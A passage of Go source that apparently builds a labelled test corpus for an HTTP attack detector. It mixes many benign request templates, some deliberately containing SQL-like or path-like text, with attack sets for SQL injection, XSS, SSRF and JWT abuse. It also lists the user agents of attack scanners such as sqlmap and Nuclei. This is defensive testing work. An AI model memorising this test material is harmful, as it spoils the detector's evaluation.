			return holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", fmt.Sprintf(`{"email":%s,"password":"%s"}`, holdJS(holdPick(holdEmails, i)), holdPick([]string{"correct horse battery staple", "P@ssw0rd-2026!", "O'Brien#1985", "select*from", "hunter2hunter2"}, i))).
				resp(200, fmt.Sprintf(`{"access_token":"%s","token_type":"Bearer","expires_in":3600}`, holdValidToken(i+1)), "Cache-Control", "no-store")
		},
		// failed logins: ordinary errors
		func(i int) holdCase {
			return holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/login", fmt.Sprintf(`{"email":%s,"password":"wrong-%d"}`, holdJS(holdPick(holdEmails, i+3)), i)).
				resp(401, `{"error":"invalid_credentials","message":"Email or password is incorrect."}`)
		},
		// sign-up with apostrophes and unicode names
		func(i int) holdCase {
			name := holdPick(holdPeople, i)
			return holdJSONReq("POST", "https://accounts.example.test/api/v1/users", fmt.Sprintf(`{"name":%s,"email":%s,"password":"Str0ng&Long-%d","marketing_opt_in":%t,"phone":"+353 1 %03d %04d"}`, holdJS(name), holdJS(holdPick(holdEmails, i)), i, i%2 == 0, 200+i, 1000+i*7)).
				resp(201, fmt.Sprintf(`{"id":"usr_%d","name":%s,"created_at":"2026-11-20T08:%02d:00Z"}`, 9000+i, holdJS(name), i%60))
		},
		// reviews with harmless markup
		func(i int) holdCase {
			return holdJSONReq("POST", fmt.Sprintf("https://api.example.test/api/v1/products/%d/reviews", 1800+i), fmt.Sprintf(`{"rating":%d,"title":%s,"body":%s}`, i%5+1, holdJS(holdPick([]string{"Nice", "Solid buy", "Not bad", "Love it", "Could be better"}, i)), holdJS(holdPick(holdReviews, i))), tok(i)...).
				resp(201, fmt.Sprintf(`{"id":%d,"status":"pending_moderation"}`, 5500+i))
		},
		// webhooks and callbacks to public hosts
		func(i int) holdCase {
			u := holdPick([]string{"https://hooks.example.com/vigil/orders", "https://api.partner.example.org/callback?token=abc123", "https://8.8.8.8/hook", "https://1.1.1.1/notify",
				"https://ci.example.dev/hooks/shop-orders", "https://webhook.site/6f1c2d3e-4a5b-6c7d-8e9f-0a1b2c3d4e5f", "https://93.184.216.34:8443/events", "https://events.example.net/ingest/v2"}, i)
			return holdJSONReq("POST", "https://api.example.test/api/v1/webhooks", fmt.Sprintf(`{"url":%s,"events":["order.created"],"secret_hint":"****%s"}`, holdJS(u), holdHexOf(fmt.Sprint("wh", i), 4)), tok(i)...).
				resp(201, fmt.Sprintf(`{"id":"wh_%d","url":%s,"active":true}`, 300+i, holdJS(u)))
		},
		// avatars and images on public CDNs and S3
		func(i int) holdCase {
			u := holdPick([]string{"https://cdn.example.com/avatars/u1001.png", "https://shop-uploads.s3.eu-west-1.amazonaws.com/avatars/9f8e.jpg", "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200",
				"https://images.unsplash.com/photo-1500000000000?w=400", "https://storage.googleapis.com/shop-public/img/42.webp", "https://lh3.googleusercontent.com/a/ACg8ocK"}, i)
			return holdJSONReq("PATCH", "https://api.example.test/api/v1/users/me", fmt.Sprintf(`{"profile":{"avatar_url":%s,"display_name":%s,"website":"https://%s.example.com"}}`, holdJS(u), holdJS(holdPick(holdPeople, i+4)), holdPick([]string{"blog", "portfolio", "www"}, i)), tok(i)...).
				resp(200, `{"ok":true}`)
		},
		// CMS text with template-like placeholders and Markdown
		func(i int) holdCase {
			text := holdPick([]string{"Hello {{name}}, your order {{order.number}} has shipped!", "Total: ${price} (incl. VAT)", "Hi {{ customer.first_name }}, thanks for joining.",
				"# Spring sale\n\n**50% off** selected items. [Shop now](https://shop.example.com/sale)\n\n- shoes\n- bags", "Use code `WELCOME10` at checkout.",
				"Dear %NAME%, your invoice #{invoice_id} is ready.", "Price: {price} EUR — valid until {date}", "> Quote of the day: *less is more*\n\n1. Plan\n2. Do"}, i)
			return holdJSONReq("PUT", fmt.Sprintf("https://cms.example.test/api/v1/pages/%s", holdPick([]string{"welcome-email", "sale-banner", "faq", "shipping", "about"}, i)), fmt.Sprintf(`{"title":"Page %d","body":%s,"format":"markdown","published":true}`, i, holdJS(text)), tok(i)...).
				resp(200, fmt.Sprintf(`{"id":%d,"version":%d}`, 40+i%5, i+1))
		},
		// developer forum posts with code
		func(i int) holdCase {
			code := holdPick([]string{"Run `ls -la` to see the files, then `cd build`.", "```go\nfor i := 0; i < n; i++ {\n\tfmt.Println(i)\n}\n```",
				"```python\nimport requests\nr = requests.get('https://api.example.test/api/v1/products', params={'limit': 50})\nprint(r.json())\n```",
				"In JS: `const total = items.reduce((a, b) => a + b.price, 0);`", "Try `curl -H 'Authorization: Bearer <token>' https://api.example.test/api/v1/me`",
				"My config lives at /etc/nginx/nginx.conf and I edited ../README.md too", "It works on localhost but not in prod, any idea?",
				"The formula is `x = (a + b) * 2` where a > b", "Use `git log --oneline | head -5`", "Error says 'invalid email' when I use a plus sign"}, i)
			return holdJSONReq("POST", "https://api.example.test/api/v1/community/posts", fmt.Sprintf(`{"thread_id":%d,"body":%s,"tags":["api","help"]}`, 700+i%40, holdJS(code)), tok(i)...).
				resp(201, fmt.Sprintf(`{"id":%d}`, 12000+i))
		},
		// math and unit expressions in notes
		func(i int) holdCase {
			n := holdPick([]string{"1=1 is true in math class", "2^10 = 1024", "5 > 3 and 3 < 5", "area = pi * r^2", "x != y", "50% + 10% discount?",
				"Box: 30x20x10 cm", "Deliver between 9-5; ring twice", "Gift note: You & me = forever", "Leave at door #4B; code 1234#"}, i)
			return holdJSONReq("POST", "https://api.example.test/api/v2/cart/notes", fmt.Sprintf(`{"cart_id":"c_%d","note":%s}`, 3000+i, holdJS(n)), tok(i)...).resp(200, `{"ok":true}`)
		},
		// file downloads with dots and slashes
		func(i int) holdCase {
			f := holdPick([]string{"reports/2026/q1.pdf", "invoices/INV-2026-0042.pdf", "exports/orders_2026-11-19.csv", "docs/v2.1/api-guide.md", "images/products/1842/main.v3.webp", "assets/app.min.js"}, i)
			if i%2 == 0 {
				return holdGET("https://api.example.test/api/v1/files?path="+holdQE(f), tok(i)...).resp(200, "%PDF-1.7 placeholder", "Content-Type", "application/pdf")
			}
			return holdGET("https://api.example.test/api/v1/files/"+f, tok(i)...).resp(200, "%PDF-1.7 placeholder", "Content-Type", "application/octet-stream")
		},
		// contact forms
		func(i int) holdCase {
			return holdFormReq("POST", "https://api.example.test/api/v1/contact", fmt.Sprintf("name=%s&email=%s&phone=%s&message=%s", holdQE(holdPick(holdPeople, i)), holdQE(holdPick(holdEmails, i)), holdQE(fmt.Sprintf("+1 (555) %03d-%04d", 100+i, 2000+i)), holdQE(holdPick(holdReviews, i+5)))).
				resp(202, `{"status":"received"}`)
		},
		// profile reads with valid HS256 / RS256 tokens
		func(i int) holdCase {
			return holdGET("https://api.example.test/api/v1/users/me", tok(i)...).
				resp(200, fmt.Sprintf(`{"id":"usr_%d","email":%s,"name":%s,"has_password":true,"password_updated_at":"2026-0%d-12T10:00:00Z","mfa":{"enabled":%t}}`, 8000+i, holdJS(holdPick(holdEmails, i)), holdJS(holdPick(holdPeople, i)), i%9+1, i%2 == 0), "Cache-Control", "private, no-store")
		},
		// an expired token refused: the API working
		func(i int) holdCase {
			t := holdJWT(`{"alg":"HS256","typ":"JWT"}`, holdClaims(fmt.Sprint(1500+i), `"role":"customer"`, holdExpired-3600, holdExpired-int64(i)*60), "hs")
			return holdGET("https://api.example.test/api/v1/users/me", "Authorization", "Bearer "+t).
				resp(401, `{"error":"token_expired","message":"Your session has expired. Please log in again."}`, "Www-Authenticate", `Bearer error="invalid_token", error_description="The access token expired"`)
		},
		// CORS with a trusted origin, and public catalog with *
		func(i int) holdCase {
			o := holdPick([]string{"https://shop.example.test", "https://app.example.test", "https://admin.example.test"}, i)
			if i%3 == 2 {
				return holdGET("https://api.example.test/api/v1/catalog/categories", "Origin", "https://www.partner.example.org").
					resp(200, `{"categories":["home","garden","fashion"]}`, "Access-Control-Allow-Origin", "*")
			}
			c := holdGET("https://api.example.test/api/v1/cart", append(tok(i), "Origin", o)...).
				resp(200, `{"items":[{"sku":"TS-001","qty":2}],"subtotal":"39.80"}`, "Access-Control-Allow-Origin", o, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
			if i%3 == 1 {
				c.method = "OPTIONS"
				c.hdr = []string{"Origin", o, "Access-Control-Request-Method", "PUT", "Access-Control-Request-Headers", "authorization,content-type"}
				c.status, c.rbody = 204, ""
				c.rhdr = append(c.rhdr, "Access-Control-Allow-Methods", "GET, PUT, POST, DELETE", "Access-Control-Max-Age", "600")
			}
			return c
		},
		// ordinary error responses
		func(i int) holdCase {
			switch i % 6 {
			case 0:
				return holdGET(fmt.Sprintf("https://api.example.test/api/v1/products/%d", 99000+i)).resp(404, `{"error":"not_found","message":"Product not found"}`)
			case 1:
				return holdJSONReq("POST", "https://accounts.example.test/api/v1/users", `{"email":"not-an-email","password":"x"}`).
					resp(422, `{"errors":[{"field":"email","message":"invalid email"},{"field":"password","message":"must be at least 12 characters"}]}`)
			case 2:
				return holdGET("https://api.example.test/api/v1/products?page=999").resp(429, `{"error":"rate_limited","retry_after":30}`, "Retry-After", "30")
			case 3:
				return holdGET("https://api.example.test/api/v2/orders/71002/invoice", tok(i)...).resp(500, fmt.Sprintf(`{"error":"internal_error","message":"Something went wrong. Please try again later.","request_id":"req_%08x"}`, i*104729))
			case 4:
				return holdJSONReq("POST", "https://api.example.test/api/v2/cart/items", `{"sku":"TS-001","qty":0}`, tok(i)...).resp(400, `{"error":"validation_failed","details":{"qty":"must be greater than 0"}}`)
			default:
				return holdGET("https://api.example.test/api/v1/admin/users", tok(i)...).resp(403, `{"error":"forbidden","message":"You do not have permission to perform this action."}`)
			}
		},
		// GraphQL queries
		func(i int) holdCase {
			return holdJSONReq("POST", "https://api.example.test/graphql", fmt.Sprintf(`{"operationName":"Products","query":"query Products($first: Int!, $after: String) { products(first: $first, after: $after) { edges { node { id name price } } pageInfo { endCursor hasNextPage } } }","variables":{"first":%d,"after":"%s"}}`, holdPick([]int{10, 20, 50, 100}, i), holdB64(fmt.Sprintf(`{"offset":%d}`, i*20))), tok(i)...).
				resp(200, fmt.Sprintf(`{"data":{"products":{"edges":[{"node":{"id":"UHJvZHVjdDox","name":%s,"price":"19.90"}}],"pageInfo":{"endCursor":"YXJyYXljb25uZWN0aW9uOjE5","hasNextPage":true}}}}`, holdJS(holdPick(holdProducts, i))))
		},
		// analytics events with ordinary user agents and referers
		func(i int) holdCase {
			return holdJSONReq("POST", "https://api.example.test/api/v1/events", fmt.Sprintf(`{"events":[{"name":"page_view","path":"/products/%d","ts":%d},{"name":"add_to_cart","sku":"TS-%03d","value":19.9}],"session":"%s"}`, 1800+i, holdNow*1000+int64(i)*1337, i, holdHexOf(fmt.Sprint("sess", i), 32)),
				"Referer", fmt.Sprintf("https://shop.example.test/search?q=%s", holdQE(holdPick(holdSearches, i+7)))).resp(204, "")
		},
		// cart updates
		func(i int) holdCase {
			return holdJSONReq("PUT", fmt.Sprintf("https://api.example.test/api/v2/cart/items/%d", 100+i), fmt.Sprintf(`{"qty":%d,"gift_wrap":%t,"options":{"size":"%s","color":"%s"}}`, i%5+1, i%3 == 0, holdPick([]string{"S", "M", "L", "XL", "42", "10.5"}, i), holdPick([]string{"navy", "off-white", "black/red", "#FF5733"}, i)), tok(i)...).
				resp(200, fmt.Sprintf(`{"cart_id":"c_%d","items":%d,"subtotal":"%d.00"}`, 3000+i, i%5+1, 20*(i%5+1)))
		},
		// payment intents: last4, fingerprints and ETags
		func(i int) holdCase {
			return holdJSONReq("POST", "https://billing.example.test/api/v1/payment_intents", fmt.Sprintf(`{"amount":%d,"currency":"eur","payment_method":"pm_%s"}`, 1990+i*100, holdAlnumOf(fmt.Sprint("pm", i), 24, holdAlnum)), tok(i)...).
				resp(200, fmt.Sprintf(`{"id":"pi_%s","status":"succeeded","card":{"brand":"visa","last4":"4242","display":"•••• 4242","fingerprint":"%s","funding":"credit"},"hash":"%s"}`, holdAlnumOf(fmt.Sprint("pi", i), 24, holdAlnum), holdAlnumOf(fmt.Sprint("fp", i), 16, holdAlnum), holdHexOf(fmt.Sprint("etag", i), 40)),
					"Etag", fmt.Sprintf(`W/"%s"`, holdHexOf(fmt.Sprint("et", i), 16)))
		},
		// password change: passwords only in the request
		func(i int) holdCase {
			return holdJSONReq("POST", "https://accounts.example.test/api/v1/users/me/password", fmt.Sprintf(`{"current_password":"Old-Pass-%d!","new_password":"N3w&Better'Pass-%d"}`, i, i), tok(i)...).resp(204, "")
		},
		// query-language filters on ordinary fields
		func(i int) holdCase {
			if i%2 == 0 {
				return holdGET(fmt.Sprintf("https://api.example.test/api/v1/products?filters[price][$gt]=%d&filters[price][$lt]=%d&filters[category][$eq]=shoes", 10+i, 100+i)).resp(200, holdProductList(i, 2))
			}
			return holdJSONReq("POST", "https://api.example.test/api/v1/products/query", fmt.Sprintf(`{"filter":{"price":{"$lt":%d},"tags":{"$in":["sale","new"]},"stock":{"$gte":1}},"sort":{"price":1},"limit":20}`, 50+i)).resp(200, holdProductList(i, 3))
		},
		// geo lookups with public IPs
		func(i int) holdCase {
			ip := holdPick([]string{"93.184.216.34", "8.8.8.8", "1.1.1.1", "151.101.1.69", "140.82.112.3", "185.199.108.153", "104.16.132.229", "2606:4700:4700::1111"}, i)
			return holdGET("https://api.example.test/api/v1/geo?ip="+holdQE(ip), "X-Forwarded-For", holdPick([]string{"203.0.113.45", "198.51.100.7, 203.0.113.9", "8.8.4.4"}, i)).
				resp(200, fmt.Sprintf(`{"ip":%s,"country":"%s","city":%s}`, holdJS(ip), holdPick([]string{"US", "IE", "DE", "NL"}, i), holdJS(holdPick(holdCities, i))))
		},
		// addresses with #, ; and apostrophes
		func(i int) holdCase {
			line := holdPick([]string{"Apt #4B, 12 O'Connell St", "Unit 5; Building C", "c/o Müller & Söhne GmbH", "PO Box 1234", "1600 Amphitheatre Pkwy", "Flat 3/2, 10 Union Street", "Drop-off at reception (ask for Tom)"}, i)
			return holdJSONReq("POST", "https://api.example.test/api/v1/addresses", fmt.Sprintf(`{"name":%s,"line1":%s,"city":%s,"zip":"%05d","country":"%s"}`, holdJS(holdPick(holdPeople, i+2)), holdJS(line), holdJS(holdPick(holdCities, i+1)), 10000+i*37, holdPick([]string{"IE", "DE", "NL", "US"}, i)), tok(i)...).
				resp(201, fmt.Sprintf(`{"id":"adr_%d"}`, 600+i))
		},
		// benign XML: SOAP without DOCTYPE, an SVG logo
		func(i int) holdCase {
			if i%2 == 0 {
				return holdReq("POST", "https://billing.example.test/soap/OrderService", fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder xmlns="urn:shop"><OrderId>%d</OrderId></GetOrder></soap:Body></soap:Envelope>`, 71000+i),
					"Content-Type", "text/xml; charset=utf-8", "Soapaction", `"urn:shop/GetOrder"`).
					resp(200, fmt.Sprintf(`<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrderResponse xmlns="urn:shop"><Status>shipped</Status><Total>%d.50</Total></GetOrderResponse></soap:Body></soap:Envelope>`, 20+i), "Content-Type", "text/xml; charset=utf-8")
			}
			return holdReq("PUT", fmt.Sprintf("https://cms.example.test/api/v1/media/logo-%d.svg", i), fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><circle cx="50" cy="50" r="%d" fill="#1a73e8"/><text x="10" y="90">Shop</text></svg>`, 20+i%30), "Content-Type", "image/svg+xml").
				resp(201, `{"ok":true}`)
		},
		// internationalised search and names
		func(i int) holdCase {
			q := holdPick([]string{"Müller Schuhe", "東京 タワー", "Ñandú", "crème brûlée set", "Zürich Karte", "café & bistro", "naïve art", "Kraków mapa"}, i)
			return holdGET("https://shop-api.example.test/v2/search?q="+holdQE(q)+"&lang="+holdPick([]string{"de", "ja", "es", "fr", "pl"}, i), "Accept-Language", holdPick([]string{"de-DE,de;q=0.9", "ja-JP", "es-ES,es;q=0.8,en;q=0.5"}, i)).
				resp(200, holdProductList(i+11, 1))
		},
		// health and metrics
		func(i int) holdCase {
			p := holdPick([]string{"/healthz", "/readyz", "/api/v1/status", "/version"}, i)
			return holdGET("https://api.example.test"+p, "User-Agent", holdPick([]string{"kube-probe/1.29", "ELB-HealthChecker/2.0", "Prometheus/2.48.0", "Datadog Agent/7.49.1"}, i)).
				resp(200, fmt.Sprintf(`{"status":"ok","version":"2.%d.%d","commit":"%s"}`, i%10, i%7, holdHexOf(fmt.Sprint("git", i), 40)))
		},
		// CSV exports of harmless data
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://api.example.test/api/v3/reports/export?format=csv&from=2026-%02d-01&to=2026-%02d-28", i%11+1, i%11+1), tok(i)...).
				resp(200, fmt.Sprintf("date,orders,revenue,avg_basket\n2026-%02d-01,%d,%d.50,%d.10\n2026-%02d-02,%d,%d.00,%d.90\n", i%11+1, 100+i, 2000+i*7, 20+i%9, i%11+1, 90+i, 1900+i*5, 21+i%8), "Content-Type", "text/csv; charset=utf-8", "Content-Disposition", fmt.Sprintf(`attachment; filename="sales-%d.csv"`, i))
		},
		// chat / support messages mentioning localhost, IPs and paths
		func(i int) holdCase {
			m := holdPick([]string{"The widget works on localhost but not on my live site", "My router is 192.168.1.1 at home, is that why the app fails?",
				"I pasted the log from C:\\Program Files\\Shop\\logs\\app.log", "Order shipped to ../ wrong address?? please fix",
				"Can I pay with card ending 1111?", "My API key stopped working after I rotated it", "How do I set per_page higher than 100?",
				"The SQL report shows 'select * ' errors in the UI text", "I get <error> in the page title"}, i)
			return holdJSONReq("POST", fmt.Sprintf("https://cms.example.test/api/v1/support/tickets/%d/messages", 4000+i), fmt.Sprintf(`{"text":%s,"attachments":[]}`, holdJS(m)), tok(i)...).
				resp(201, fmt.Sprintf(`{"id":%d,"status":"open"}`, 90000+i))
		},
		// lists of orders with order numbers that look like card numbers but fail Luhn
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://api.example.test/api/v2/orders?customer=%d&status=delivered", 800+i), tok(i)...).
				resp(200, fmt.Sprintf(`{"items":[{"order_number":"%s","total":"12.00"},{"order_number":"%s","total":"99.00"}],"count":2}`, holdOrderNumberNotLuhn(i*2), holdOrderNumberNotLuhn(i*2+1)))
		},
		// JWKS and public keys
		func(i int) holdCase {
			if i%2 == 0 {
				return holdGET("https://accounts.example.test/.well-known/jwks.json").
					resp(200, fmt.Sprintf(`{"keys":[{"kty":"RSA","use":"sig","alg":"RS256","kid":"2026-03-key_1","n":"%s","e":"AQAB"}]}`, holdRSAModulus), "Cache-Control", "public, max-age=3600")
			}
			return holdGET(fmt.Sprintf("https://api.example.test/api/v1/integrations/%d/public-key", i)).
				resp(200, fmt.Sprintf(`{"format":"pem","public_key":%s}`, holdJS(holdPEM("PUBLIC KEY", fmt.Sprint("pub", i), 4))))
		},
		// downloads with checksums under sha256/hash keys
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://api.example.test/api/v1/releases/%d", 10+i)).
				resp(200, fmt.Sprintf(`{"version":"3.%d.0","assets":[{"name":"shop-cli_linux_amd64.tar.gz","sha256":"%s","md5":"%s","size":%d}]}`, i, holdHexOf(fmt.Sprint("rel", i), 64), holdHexOf(fmt.Sprint("relmd5", i), 32), 4000000+i*1234))
		},
		// API key management with masked keys
		func(i int) holdCase {
			return holdGET("https://api.example.test/api/v1/api-keys", tok(i)...).
				resp(200, fmt.Sprintf(`{"keys":[{"id":"key_%d","name":"ci","prefix":"vk_live_","last4":"%s","display":"vk_live_••••••••%s","created_at":"2026-10-0%dT12:00:00Z"}]}`, i, holdHexOf(fmt.Sprint("k", i), 4), holdHexOf(fmt.Sprint("k", i), 4), i%9+1))
		},
		// large opaque tokens: base64 images, refresh tokens
		func(i int) holdCase {
			if i%2 == 0 {
				return holdJSONReq("POST", "https://api.example.test/api/v1/users/me/avatar", fmt.Sprintf(`{"filename":"me-%d.png","data":"iVBORw0KGgoAAAANSUhEUgAA%s=="}`, i, holdAlnumOf(fmt.Sprint("png", i), 300, holdB64Chars)), tok(i)...).resp(200, `{"ok":true}`)
			}
			return holdJSONReq("POST", "https://accounts.example.test/api/v1/auth/refresh", fmt.Sprintf(`{"refresh_token":"%s"}`, holdAlnumOf(fmt.Sprint("rt", i), 86, holdAlnum+"-_"))).
				resp(200, fmt.Sprintf(`{"access_token":"%s","expires_in":900}`, holdValidToken(i+2)), "Cache-Control", "no-store")
		},
		// multipart uploads of ordinary files
		func(i int) holdCase {
			fn := holdPick([]string{"invoice 2026-11.pdf", "photo.final.v2.jpg", "notes (1).txt", "report_Q3-2026.xlsx", "résumé.pdf"}, i)
			body := "--x9\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fn + "\"\r\nContent-Type: application/octet-stream\r\n\r\nplaceholder bytes\r\n--x9\r\nContent-Disposition: form-data; name=\"folder\"\r\n\r\ndocs/2026/november\r\n--x9--\r\n"
			return holdReq("POST", "https://api.example.test/api/v1/uploads", body, append(tok(i), "Content-Type", "multipart/form-data; boundary=x9")...).
				resp(201, fmt.Sprintf(`{"id":"upl_%d","name":%s}`, i, holdJS(fn)))
		},
		// product listing via path segments and slugs
		func(i int) holdCase {
			slug := holdPick([]string{"select-chair-oak", "union-jack-cushion", "drop-off-tote", "o-brien-tweed-cap", "1-1-mug", "script-notebook", "rock-n-roll-tee"}, i)
			return holdGET(fmt.Sprintf("https://shop-api.example.test/v2/products/%s", slug)).
				resp(200, fmt.Sprintf(`{"slug":%s,"name":%s,"description":%s}`, holdJS(slug), holdJS(holdPick(holdProducts, i)), holdJS(holdPick(holdReviews, i+2))))
		},
		// user lookups by email in the query
		func(i int) holdCase {
			return holdGET("https://accounts.example.test/api/v1/users?email="+holdQE(holdPick(holdEmails, i)), tok(i)...).
				resp(200, fmt.Sprintf(`{"items":[{"id":"usr_%d","email":%s}]}`, 8100+i, holdJS(holdPick(holdEmails, i))))
		},
		// coupons and promo codes with symbols
		func(i int) holdCase {
			code := holdPick([]string{"SAVE10", "BLACK-FRIDAY-2026", "WELCOME_10", "VIP+GOLD", "FREE$HIP", "10%OFF", "O'FFER"}, i)
			c := holdJSONReq("POST", "https://api.example.test/api/v2/cart/coupons", fmt.Sprintf(`{"code":%s}`, holdJS(code)), tok(i)...).
				resp(200, `{"valid":true,"discount":"10%"}`)
			if i%4 == 1 {
				c = c.resp(404, `{"valid":false,"error":"coupon_not_found"}`)
			}
			return c
		},
		// feature flags and settings
		func(i int) holdCase {
			return holdJSONReq("PATCH", "https://api.example.test/api/v1/settings", fmt.Sprintf(`{"mode":"select","theme":"%s","notifications":{"email":true,"sms":false},"timezone":"Europe/Dublin","date_format":"YYYY-MM-DD","locale":"%s"}`, holdPick([]string{"dark", "light", "system"}, i), holdPick([]string{"en-IE", "de-DE", "ja-JP"}, i)), tok(i)...).
				resp(200, `{"ok":true}`)
		},
		// a customer's saved payment methods, masked
		func(i int) holdCase {
			return holdGET("https://billing.example.test/api/v1/payment-methods", tok(i)...).
				resp(200, fmt.Sprintf(`{"data":[{"id":"pm_%d","brand":"mastercard","number":"**** **** **** %04d","exp":"%02d/29"},{"id":"pm_%d","brand":"amex","number":"XXXX-XXXXXX-X%04d","exp":"01/28"}]}`, i, 4444+i%10, i%12+1, i+1, 1005+i%10))
		},
		// webhook deliveries log
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://api.example.test/api/v1/webhooks/wh_%d/deliveries?limit=20", 300+i), tok(i)...).
				resp(200, fmt.Sprintf(`{"items":[{"id":"whd_%d","url":"https://hooks.example.com/vigil/orders","status":%d,"duration_ms":%d}]}`, i, holdPick([]int{200, 200, 500, 410}, i), 40+i))
		},
		// product descriptions from the admin catalog editor
		func(i int) holdCase {
			d := holdPick([]string{"<p>Handmade in <strong>Portugal</strong>.</p><p>Care: hand wash &lt;30°C.</p>", "<h2>Specs</h2><table><tr><td>Weight</td><td>1.2 kg</td></tr></table>",
				"Dimensions: 120 x 60 x 75 cm. Fits rooms where 2 > 1 desks won't.", `<p>See the <a href="https://shop.example.com/guide" target="_blank" rel="noopener">size guide</a>.</p>`,
				"Material: 100% merino; select size one up.", "<blockquote>Union-made, drop-shipped</blockquote>"}, i)
			return holdJSONReq("PUT", fmt.Sprintf("https://api.example.test/api/v1/admin/products/%d", 1800+i), fmt.Sprintf(`{"name":%s,"description_html":%s,"price":"%d.00"}`, holdJS(holdPick(holdProducts, i)), holdJS(d), 10+i), tok(i)...).
				resp(200, `{"ok":true}`)
		},
		// OAuth flows with https redirect URIs
		func(i int) holdCase {
			r := holdPick([]string{"https://shop.example.test/auth/callback", "https://app.example.test/oauth/cb?next=%2Fdashboard", "com.example.shop:/oauth2redirect"}, i)
			return holdGET(fmt.Sprintf("https://accounts.example.test/api/v1/oauth/authorize?client_id=web&response_type=code&state=%s&redirect_uri=%s&scope=openid%%20profile", holdHexOf(fmt.Sprint("st", i), 16), holdQE(r))).
				resp(302, "", "Location", r+"?code="+holdAlnumOf(fmt.Sprint("code", i), 32, holdAlnum))
		},
		// notifications list with timestamps and URLs
		func(i int) holdCase {
			return holdGET("https://api.example.test/api/v1/notifications?unread=true&per_page=20", tok(i)...).
				resp(200, fmt.Sprintf(`{"items":[{"id":%d,"text":"Your order #%d has shipped","link":"https://shop.example.test/orders/%d","created_at":"2026-11-19T%02d:%02d:00Z"}]}`, 100+i, 71000+i, 71000+i, i%24, i%60))
		},
		// cookie-authenticated browser calls
		func(i int) holdCase {
			return holdGET("https://shop-api.example.test/v2/wishlist", "Cookie", fmt.Sprintf("sid=s%%3A%s.%s; cart=c_%d; _ga=GA1.2.%d.%d", holdAlnumOf(fmt.Sprint("sid", i), 32, holdAlnum), holdAlnumOf(fmt.Sprint("sig", i), 43, holdAlnum), 3000+i, 1000000+i, holdNow-int64(i)*1000),
				"Referer", "https://shop.example.test/wishlist").
				resp(200, holdProductList(i+5, 2))
		},
		// DELETE and status changes
		func(i int) holdCase {
			if i%2 == 0 {
				return holdReq("DELETE", fmt.Sprintf("https://api.example.test/api/v2/cart/items/%d", 100+i), "", tok(i)...).resp(204, "")
			}
			return holdJSONReq("POST", fmt.Sprintf("https://api.example.test/api/v2/orders/%d/cancel", 71000+i), `{"reason":"ordered the wrong size; will re-order"}`, tok(i)...).
				resp(200, `{"status":"cancelled"}`)
		},
	}
}

var holdUserAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
	"ShopApp/5.2.1 (iPhone; iOS 18.1; Scale/3.00)",
	"ShopApp/5.2.0 (Android 14; Pixel 8)",
	"okhttp/4.12.0",
	"python-requests/2.32.3",
	"curl/8.5.0",
	"Go-http-client/2.0",
	"PostmanRuntime/7.42.0",
	"axios/1.7.7",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
	"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
	"Java/17.0.9",
}

// holdAttackUserAgents are the tools the attack requests are sent with.
var holdAttackUserAgents = []string{
	"sqlmap/1.8.2#stable (https://sqlmap.org)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Fuzz Faster U Fool v2.1.0-dev",
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"python-requests/2.31.0",
	"curl/7.88.1",
	"Go-http-client/1.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
	"aiohttp/3.9.5",
}

func holdHas(hdr []string, name string) bool {
	for i := 0; i+1 < len(hdr); i += 2 {
		if strings.EqualFold(hdr[i], name) {
			return true
		}
	}
	return false
}

// holdCorpus builds the whole corpus: exchanges and, per exchange, its labels.
func holdCorpus() ([]vigil.Exchange, [][]string) {
	attackSets := [][]holdCase{holdSQLiCases(), holdXSSCases(), holdOtherCases(), holdSSRFCases(), holdJWTCases(), holdVerboseCases(), holdSensitiveCases(), holdLimitCases()}
	var attacks []holdCase
	// interleave the sets so techniques are spread over the file
	for k := 0; ; k++ {
		more := false
		for _, s := range attackSets {
			if k < len(s) {
				attacks = append(attacks, s[k])
				more = true
			}
		}
		if !more {
			break
		}
	}
	var benign []holdCase
	tmpls := holdBenignTemplates()
	const perTemplate = 28
	for i := 0; i < perTemplate; i++ {
		for _, f := range tmpls {
			benign = append(benign, f(i).label())
		}
	}
	// merge: spread attacks evenly among benign traffic
	var all []holdCase
	ai := 0
	for bi, b := range benign {
		all = append(all, b)
		for ai < len(attacks) && ai*len(benign) <= bi*len(attacks) {
			all = append(all, attacks[ai])
			ai++
		}
	}
	all = append(all, attacks[ai:]...)

	base := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	xs := make([]vigil.Exchange, 0, len(all))
	labels := make([][]string, 0, len(all))
